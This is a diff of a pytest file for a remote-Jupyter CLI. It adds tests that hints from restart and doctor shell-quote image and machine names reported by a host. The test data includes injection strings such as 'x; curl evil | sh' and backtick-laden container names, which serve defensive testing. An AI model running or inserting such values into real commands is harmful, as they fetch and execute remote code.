@@ -8,12 +8,15 @@ import shutil
 import sys
 import time
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import pytest
 from click.shell_completion import CompletionItem
 
 from jlremote.cli.completion import shells
+from jlremote.doctor import host
+from jlremote.errors import JlrError
 from jlremote.host.contract import Completed
 from jlremote.host.records import FIELD, RECORD
 from jlremote.jobs import containers, processes
@@ -21,11 +24,13 @@ from jlremote.jupyter import presence, survey
 from jlremote.runtimes.container_list import ListedContainer
 from jlremote.runtimes.contract import Container
 from jlremote.runtimes.engine.engine import DOCKER
+from jlremote.runtimes.options.container_options import ContainerOptions
 from jlremote.runtimes.table import runtime_named
 from jlremote.storage import jobs, session_names, sessions
 from jlremote.storage.jobs import JobRecord
 from jlremote.storage.sessions import SessionRecord
 from jlremote.workflow.host.halted import again
+from jlremote.workflow.session import restart
 from tests.cli.terminal import Terminal
 from tests.host.shells import run_sh
 from tests.workflow.parts import FakeHost
@@ -57,9 +62,9 @@ def test_a_name_that_is_none_is_neither_a_job_nor_a_session(name: str) -> None:
 def test_a_short_name_leads_to_no_name_that_is_none() -> None:
     """`docker ps` of the host printed them; one that begins with `-` would be an option."""
     gone = "Error: No such container: cont1"
-    host: Any = FakeHost("dgx", {"called": "--rm a;b ada-cont1 `x`"})
-    host.answers |= {"container": Completed(1, "", gone), "inside": Completed(1, "", "")}
-    found = survey.survey(host, runtime_named("docker"), "cont1", typed="cont1")
+    there: Any = FakeHost("dgx", {"called": "--rm a;b ada-cont1 `x`"})
+    there.answers |= {"container": Completed(1, "", gone), "inside": Completed(1, "", "")}
+    found = survey.survey(there, runtime_named("docker"), "cont1", typed="cont1")
     assert found.called == ("ada-cont1",)
 
 
@@ -76,6 +81,24 @@ def test_a_record_with_such_a_name_is_no_record(name: str) -> None:
 def test_a_hint_quotes_the_image_that_a_host_told() -> None:
     record = SessionRecord("dgx", "cont1", "docker", 8888, image="x; curl evil | sh")
     assert "--image 'x; curl evil | sh'`" in again(record, "container-gone")
+
+
+def test_the_hints_of_restart_and_doctor_quote_what_a_host_told() -> None:
+    evil = "x; curl evil | sh"
+    options = ContainerOptions(remove=True)
+    there = Container("1d", "cont1", running=True, started_at="", image=evil, options=options)
+    record = SessionRecord("dgx", "cont1", "docker", 8888)
+    found: Any = SimpleNamespace(container=there)
+    with pytest.raises(JlrError) as refused:
+        restart._refuse_unless_it_stays(record, runtime_named("docker"), found)
+    assert f"--image '{evil}'`" in str(refused.value.hint)
+    image = SimpleNamespace(name=evil, found=False, architecture="arm64", complaint=None)
+    facts: Any = SimpleNamespace(
+        host="dgx", machine=evil, image=image, image_needed=True, engine=None
+    )
+    assert host._image(facts).mend == (f"`jlr pull dgx '{evil}'`",)
+    [pull] = host._architecture(facts).mend
+    assert pull.endswith(f"`docker pull --platform 'linux/{evil}' '{evil}'`")
 
 
 @pytest.mark.parametrize("name", [*HOSTILE, "it's", "a\\b", "a*", "~", "!!", "{a,b}"])
